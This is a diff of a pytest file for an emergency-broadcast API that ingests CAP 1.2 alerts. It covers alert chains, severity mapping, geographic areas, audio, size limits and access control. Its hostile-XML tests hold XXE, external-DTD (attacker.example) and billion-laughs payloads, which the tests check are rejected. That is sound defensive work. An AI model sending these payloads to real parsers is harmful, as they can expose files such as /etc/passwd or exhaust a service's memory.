@@ -1,4 +1,4 @@
-"""CAP 1.2 alerts through ``POST /api/v1/broadcasts/cap``: chains, enumerations, areas, audio, hostile XML."""
+"""CAP 1.2 via the API: Alert, Update, Cancel chains, enumerations, areas, audio, hostile XML."""
 
 from __future__ import annotations
 
@@ -23,8 +23,12 @@ SENDER = "alerts@hz.example.cn"
 SENT = "2024-07-01T08:00:00+08:00"
 
 
-def send(client: TestClient, headers: dict[str, str], document: bytes | Iterator[bytes],
-         content_type: str = "application/cap+xml") -> Any:
+def send(
+    client: TestClient,
+    headers: dict[str, str],
+    document: bytes | Iterator[bytes],
+    content_type: str = "application/cap+xml",
+) -> Any:
     return client.post(CAP, content=document, headers={**headers, "Content-Type": content_type})
 
 
@@ -56,7 +60,9 @@ def media_files(directory: str) -> set[Path]:
 
 
 def test_an_alert_broadcasts_its_headline_description_and_instruction_to_its_areas(
-    client: TestClient, district: District, terminal: Callable[..., Terminal],
+    client: TestClient,
+    district: District,
+    terminal: Callable[..., Terminal],
 ) -> None:
     v11 = terminal("v11")
     expires = datetime.now(UTC).replace(microsecond=0) + timedelta(hours=3)
@@ -67,11 +73,18 @@ def test_an_alert_broadcasts_its_headline_description_and_instruction_to_its_are
     body = response.json()
     assert body["status"] == "active" and body["level"] == 1 and body["mode"] == "actual"
     assert body["title"] == "暴雨橙色预警" and body["content"] == "text"
-    assert body["text"] == "暴雨橙色预警。预计未来3小时内将出现50毫米以上降水。请村民立即转移到安全地带。"
+    assert (
+        body["text"]
+        == "暴雨橙色预警。预计未来3小时内将出现50毫米以上降水。请村民立即转移到安全地带。"
+    )
     assert at(body["expires_at"]) == expires
     assert sorted(v["code"] for v in body["villages"]) == ["v11", "v12"]
-    assert body["cap"] == {"sender": SENDER, "identifier": "HZ-1",
-                           "sent": "2024-07-01T00:00:00Z", "msg_type": "Alert"}
+    assert body["cap"] == {
+        "sender": SENDER,
+        "identifier": "HZ-1",
+        "sent": "2024-07-01T00:00:00Z",
+        "msg_type": "Alert",
+    }
     [order] = [o for o in v11.program()["orders"] if o["kind"] == "urgent"]
     assert order["broadcast"] == body["id"] and order["priority"] == 4
 
@@ -86,13 +99,24 @@ def test_the_same_alert_twice_is_one_broadcast(client: TestClient, district: Dis
 
 
 def test_update_replaces_and_cancel_stops_the_whole_chain(
-    client: TestClient, district: District, terminal: Callable[..., Terminal],
+    client: TestClient,
+    district: District,
+    terminal: Callable[..., Terminal],
 ) -> None:
     v11, v21 = terminal("v11"), terminal("v21")
     original = send(client, district.admin, alert("HZ-7", severity="Moderate")).json()
-    update = send(client, district.admin, alert(
-        "HZ-7-U1", msg_type="Update", sent="2024-07-01T09:00:00+08:00", severity="Extreme",
-        area_codes=("t1", "v21"), references=[(SENDER, "HZ-7", SENT)]))
+    update = send(
+        client,
+        district.admin,
+        alert(
+            "HZ-7-U1",
+            msg_type="Update",
+            sent="2024-07-01T09:00:00+08:00",
+            severity="Extreme",
+            area_codes=("t1", "v21"),
+            references=[(SENDER, "HZ-7", SENT)],
+        ),
+    )
 
     assert update.status_code == 201, update.text
     replaced = client.get(f"/api/v1/broadcasts/{original['id']}", headers=district.admin).json()
@@ -102,36 +126,56 @@ def test_update_replaces_and_cancel_stops_the_whole_chain(
     assert [o["broadcast"] for o in v21.program()["orders"]] == [update.json()["id"]]
 
     # A Cancel naming only the first alert stops what replaced it too.
-    cancel = alert("HZ-7-C", msg_type="Cancel", sent="2024-07-01T10:00:00+08:00",
-                   references=[(SENDER, "HZ-7", SENT)], with_info=False)
+    cancel = alert(
+        "HZ-7-C",
+        msg_type="Cancel",
+        sent="2024-07-01T10:00:00+08:00",
+        references=[(SENDER, "HZ-7", SENT)],
+        with_info=False,
+    )
     cancelled = send(client, district.admin, cancel)
     repeated = send(client, district.admin, cancel)
 
     assert cancelled.status_code == 200, cancelled.text
     assert cancelled.json()["result"] == "cancelled"
     assert {b["id"]: b["status"] for b in cancelled.json()["broadcasts"]} == {
-        original["id"]: "cancelled", update.json()["id"]: "cancelled"}
+        original["id"]: "cancelled",
+        update.json()["id"]: "cancelled",
+    }
     assert repeated.status_code == 200
     assert v11.program()["orders"] == [] and v21.program()["orders"] == []
 
 
 def test_a_cancel_of_an_unknown_alert_is_404(client: TestClient, district: District) -> None:
-    response = send(client, district.admin, alert(
-        "HZ-9-C", msg_type="Cancel", references=[(SENDER, "never-sent", SENT)], with_info=False))
+    response = send(
+        client,
+        district.admin,
+        alert(
+            "HZ-9-C", msg_type="Cancel", references=[(SENDER, "never-sent", SENT)], with_info=False
+        ),
+    )
 
     assert response.status_code == 404
-    assert response.json()["error"] == "unknown_reference" and "never-sent" in response.json()["detail"]
+    assert (
+        response.json()["error"] == "unknown_reference"
+        and "never-sent" in response.json()["detail"]
+    )
 
 
 # --- enumerations ------------------------------------------------------------------------------
 
 
-def test_severity_gives_the_level_and_status_the_mode(client: TestClient, district: District) -> None:
+def test_severity_gives_the_level_and_status_the_mode(
+    client: TestClient, district: District
+) -> None:
     for number, (severity, level) in enumerate(
-            [("Extreme", 1), ("Severe", 2), ("Moderate", 3), ("Minor", 4), ("Unknown", 4)]):
+        [("Extreme", 1), ("Severe", 2), ("Moderate", 3), ("Minor", 4), ("Unknown", 4)]
+    ):
         response = send(client, district.admin, alert(f"SEV-{number}", severity=severity))
         assert response.status_code == 201, response.text
-        assert (response.json()["level"], response.json()["priority"]) == (level, 5 - level), severity
+        assert (response.json()["level"], response.json()["priority"]) == (level, 5 - level), (
+            severity
+        )
     for status, mode in [("Actual", "actual"), ("Exercise", "exercise"), ("Test", "test")]:
         response = send(client, district.admin, alert(f"STATUS-{status}", status=status))
         assert response.status_code == 201, response.text
@@ -139,13 +183,21 @@ def test_severity_gives_the_level_and_status_the_mode(client: TestClient, distri
 
 
 def test_system_draft_ack_and_error_are_accepted_and_not_broadcast(
-    client: TestClient, district: District,
+    client: TestClient,
+    district: District,
 ) -> None:
-    for status, msg_type in [("System", "Alert"), ("Draft", "Alert"), ("Actual", "Ack"),
-                             ("Actual", "Error")]:
+    for status, msg_type in [
+        ("System", "Alert"),
+        ("Draft", "Alert"),
+        ("Actual", "Ack"),
+        ("Actual", "Error"),
+    ]:
         references = [(SENDER, "HZ-1", SENT)] if msg_type in ("Ack", "Error") else []
-        response = send(client, district.admin, alert(f"{status}-{msg_type}", status=status,
-                                                      msg_type=msg_type, references=references))
+        response = send(
+            client,
+            district.admin,
+            alert(f"{status}-{msg_type}", status=status, msg_type=msg_type, references=references),
+        )
 
         assert response.status_code == 202, response.text
         assert response.json()["result"] == "not_broadcast"
@@ -155,7 +207,8 @@ def test_system_draft_ack_and_error_are_accepted_and_not_broadcast(
 
 
 def test_an_exercise_alert_is_spoken_between_drill_notices(
-    client: TestClient, district: District,
+    client: TestClient,
+    district: District,
 ) -> None:
     actual = send(client, district.admin, alert("A-1")).json()
     drill = send(client, district.admin, alert("E-1", status="Exercise")).json()
@@ -177,20 +230,29 @@ def test_unknown_area_codes_are_422_naming_them(client: TestClient, district: Di
 
 
 # v11's speaker at (30.10, 120.10), v12's at (30.30, 120.30), v21's at (30.50, 120.50).
-SQUARE_AROUND_V11 = [(30.05, 120.05), (30.05, 120.15), (30.15, 120.15), (30.15, 120.05),
-                     (30.05, 120.05)]
+SQUARE_AROUND_V11 = [
+    (30.05, 120.05),
+    (30.05, 120.15),
+    (30.15, 120.15),
+    (30.15, 120.05),
+    (30.05, 120.05),
+]
 CIRCLE_AROUND_V21 = (30.51, 120.51, 3.0)  # ~1.4 km from v21's speaker, ~30 km from v12's
 
 
 @pytest.fixture
 def positioned(terminal: Callable[..., Terminal]) -> dict[str, Terminal]:
-    return {"v11": terminal("v11", lat=30.10, lon=120.10),
-            "v12": terminal("v12", lat=30.30, lon=120.30),
-            "v21": terminal("v21", lat=30.50, lon=120.50)}
+    return {
+        "v11": terminal("v11", lat=30.10, lon=120.10),
+        "v12": terminal("v12", lat=30.30, lon=120.30),
+        "v21": terminal("v21", lat=30.50, lon=120.50),
+    }
 
 
 def test_polygons_and_circles_select_the_villages_of_the_speakers_inside(
-    client: TestClient, district: District, positioned: dict[str, Terminal],
+    client: TestClient,
+    district: District,
+    positioned: dict[str, Terminal],
 ) -> None:
     cases: list[tuple[dict[str, Any], list[str]]] = [
         ({"polygons": [SQUARE_AROUND_V11]}, ["v11"]),
@@ -199,14 +261,18 @@ def test_polygons_and_circles_select_the_villages_of_the_speakers_inside(
         ({"circles": [(30.30, 120.30, 0.5)], "area_codes": ("v21",)}, ["v12", "v21"]),
     ]
     for number, (shapes, expected) in enumerate(cases):
-        response = send(client, district.admin, alert(f"GEO-{number}", **{"area_codes": (), **shapes}))
+        response = send(
+            client, district.admin, alert(f"GEO-{number}", **{"area_codes": (), **shapes})
+        )
 
         assert response.status_code == 201, response.text
         assert sorted(v["code"] for v in response.json()["villages"]) == expected, shapes
 
 
 def test_shapes_only_reach_speakers_inside_the_callers_area(
-    client: TestClient, district: District, positioned: dict[str, Terminal],
+    client: TestClient,
+    district: District,
+    positioned: dict[str, Terminal],
 ) -> None:
     staff_t1 = district.user("li", "staff", "t1")
 
@@ -226,18 +292,32 @@ def _seconds(data: bytes) -> float:
     with tempfile.NamedTemporaryFile(suffix=".mp3") as file:
         file.write(data)
         file.flush()
-        out = subprocess.run(["ffprobe", "-v", "error", "-show_entries", "format=duration",
-                              "-of", "csv=p=0", file.name], capture_output=True, check=True)
+        out = subprocess.run(
+            [
+                "ffprobe",
+                "-v",
+                "error",
+                "-show_entries",
+                "format=duration",
+                "-of",
+                "csv=p=0",
+                file.name,
+            ],
+            capture_output=True,
+            check=True,
+        )
     return float(out.stdout)
 
 
 def test_inline_audio_is_transcoded_and_played_instead_of_the_text(
-    client: TestClient, district: District,
+    client: TestClient,
+    district: District,
 ) -> None:
     recording = tone_wav(seconds=2.0, frequency=660.0)
 
-    response = send(client, district.admin, alert(audio=recording, audio_mime="audio/wav",
-                                                  audio_digest=True))
+    response = send(
+        client, district.admin, alert(audio=recording, audio_mime="audio/wav", audio_digest=True)
+    )
 
     assert response.status_code == 201, response.text
     body = response.json()
@@ -249,11 +329,16 @@ def test_inline_audio_is_transcoded_and_played_instead_of_the_text(
 
 
 def test_inline_bytes_that_are_not_audio_are_400_and_store_nothing(
-    client: TestClient, district: District, env: dict[str, str],
+    client: TestClient,
+    district: District,
+    env: dict[str, str],
 ) -> None:
     before = media_files(env["CUNXIANG_MEDIA_DIR"])
-    response = send(client, district.admin, alert(audio=b"MZ this is no recording" * 50,
-                                                  audio_mime="audio/mpeg"))
+    response = send(
+        client,
+        district.admin,
+        alert(audio=b"MZ this is no recording" * 50, audio_mime="audio/mpeg"),
+    )
 
     assert response.status_code == 400
     assert response.json()["error"] == "invalid_cap" and "audio" in response.json()["detail"]
@@ -268,16 +353,24 @@ def _with_entity(doctype: str, reference: str) -> bytes:
     """A valid alert to t1 whose description holds ``reference``, declared in ``doctype``."""
     document = alert("HOSTILE-1", description="PLACEHOLDER")
     declaration, rest = document.split(b"?>", 1)
-    return declaration + b"?>\n" + doctype.encode() + rest.replace(b"PLACEHOLDER", reference.encode())
+    return (
+        declaration + b"?>\n" + doctype.encode() + rest.replace(b"PLACEHOLDER", reference.encode())
+    )
 
 
-LAUGHS = "<!DOCTYPE alert [<!ENTITY lol \"lol\">" + "".join(
-    f"<!ENTITY lol{i} \"{('&lol' + str(i - 1) + ';') * 10 if i > 1 else '&lol;' * 10}\">"
-    for i in range(1, 10)) + "]>"
+LAUGHS = (
+    '<!DOCTYPE alert [<!ENTITY lol "lol">'
+    + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
+        for i in range(1, 10)
+    )
+    + "]>"
+)
 
 HOSTILE = {
     "external entity": _with_entity(
-        '<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;"),
+        '<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;"
+    ),
     "external DTD": _with_entity('<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">', "x"),
     "billion laughs": _with_entity(LAUGHS, "&lol9;"),
     "10 MB": alert("HOSTILE-2", description="暴雨" * (5 * 1024 * 1024 // 3 + 1)),
@@ -285,7 +378,10 @@ HOSTILE = {
 
 
 def test_hostile_xml_is_400_with_no_side_effects(
-    client: TestClient, district: District, terminal: Callable[..., Terminal], env: dict[str, str],
+    client: TestClient,
+    district: District,
+    terminal: Callable[..., Terminal],
+    env: dict[str, str],
 ) -> None:
     v11 = terminal("v11")
     before = media_files(env["CUNXIANG_MEDIA_DIR"])
@@ -302,7 +398,9 @@ def test_hostile_xml_is_400_with_no_side_effects(
     assert send(client, district.admin, _with_entity("", "暴雨")).status_code == 201
 
 
-def test_an_oversized_body_without_a_length_is_cut_off(client: TestClient, district: District) -> None:
+def test_an_oversized_body_without_a_length_is_cut_off(
+    client: TestClient, district: District
+) -> None:
     def chunks() -> Iterator[bytes]:
         yield alert()[:-8]
         for _ in range(40):  # 10 MB in 256 KB chunks, sent without a Content-Length
@@ -315,11 +413,15 @@ def test_an_oversized_body_without_a_length_is_cut_off(client: TestClient, distr
 
 
 def test_malformed_or_not_cap_12_is_400_with_the_reason(
-    client: TestClient, district: District,
+    client: TestClient,
+    district: District,
 ) -> None:
     for document, reason in [
         (b"this is not xml", "malformed XML"),
-        (alert(namespace="urn:oasis:names:tc:emergency:cap:1.1"), "urn:oasis:names:tc:emergency:cap:1.2"),
+        (
+            alert(namespace="urn:oasis:names:tc:emergency:cap:1.1"),
+            "urn:oasis:names:tc:emergency:cap:1.2",
+        ),
         (alert(severity="Catastrophic"), "severity"),
         (alert(sender=None), "sender"),
         (b"", "empty"),
@@ -337,7 +439,9 @@ def test_other_content_types_are_415(client: TestClient, district: District) -> 
 
 
 def test_application_xml_is_accepted_too(client: TestClient, district: District) -> None:
-    assert send(client, district.admin, alert(), "application/xml; charset=utf-8").status_code == 201
+    assert (
+        send(client, district.admin, alert(), "application/xml; charset=utf-8").status_code == 201
+    )
 
 
 def test_an_alert_that_has_expired_is_422(client: TestClient, district: District) -> None:
@@ -350,10 +454,19 @@ def test_an_alert_that_has_expired_is_422(client: TestClient, district: District
 
 def test_who_may_send_cap(client: TestClient, district: District) -> None:
     reviewer = district.user("wang", "reviewer", "d1")
-    key = client.post("/api/v1/api-keys", headers=district.admin, json={
-        "name": "气象台", "scopes": ["broadcasts:write"], "area": "t1"}).json()["key"]
+    key = client.post(
+        "/api/v1/api-keys",
+        headers=district.admin,
+        json={"name": "气象台", "scopes": ["broadcasts:write"], "area": "t1"},
+    ).json()["key"]
 
     assert send(client, {}, alert()).status_code == 401
     assert send(client, reviewer, alert()).status_code == 403
-    assert send(client, {"Authorization": f"Bearer {key}"}, alert(area_codes=("t2",))).status_code == 403
-    assert send(client, {"Authorization": f"Bearer {key}"}, alert(area_codes=("v12",))).status_code == 201
+    assert (
+        send(client, {"Authorization": f"Bearer {key}"}, alert(area_codes=("t2",))).status_code
+        == 403
+    )
+    assert (
+        send(client, {"Authorization": f"Bearer {key}"}, alert(area_codes=("v12",))).status_code
+        == 201
+    )
